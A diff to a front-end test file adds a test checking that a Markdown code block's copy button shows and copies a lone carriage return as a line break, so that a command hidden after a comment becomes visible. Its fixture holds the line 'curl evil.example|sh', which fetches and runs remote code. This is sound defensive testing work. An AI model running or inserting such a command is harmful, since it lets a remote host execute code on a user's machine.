@@ -33,6 +33,16 @@ describe("the copy button of a code block", () => {
     expect(copied).toHaveBeenCalledWith("echo hello[28 characters for a terminal left out]\necho bye\\u202e");
   });
 
+  it("shows and copies a lone carriage return as the end of a line", async () => {
+    const copied = vi.fn(() => Promise.resolve());
+    clipboard(copied);
+    const { container } = render(<Markdown text={"```sh\n# note \rcurl evil.example|sh\r\n```\n"} />);
+    expect(container.querySelector("code")?.textContent).toBe("# note \ncurl evil.example|sh\n");
+    fireEvent.click(screen.getByRole("button", { name: "Copy code" }));
+    expect(await screen.findByRole("button", { name: "Copied" })).toBeTruthy();
+    expect(copied).toHaveBeenCalledWith("# note \ncurl evil.example|sh");
+  });
+
   it("says why where the browser refuses", async () => {
     clipboard(() => Promise.reject(new Error("Write permission denied.")));
     render(<Markdown text={"```\na\n```"} />);
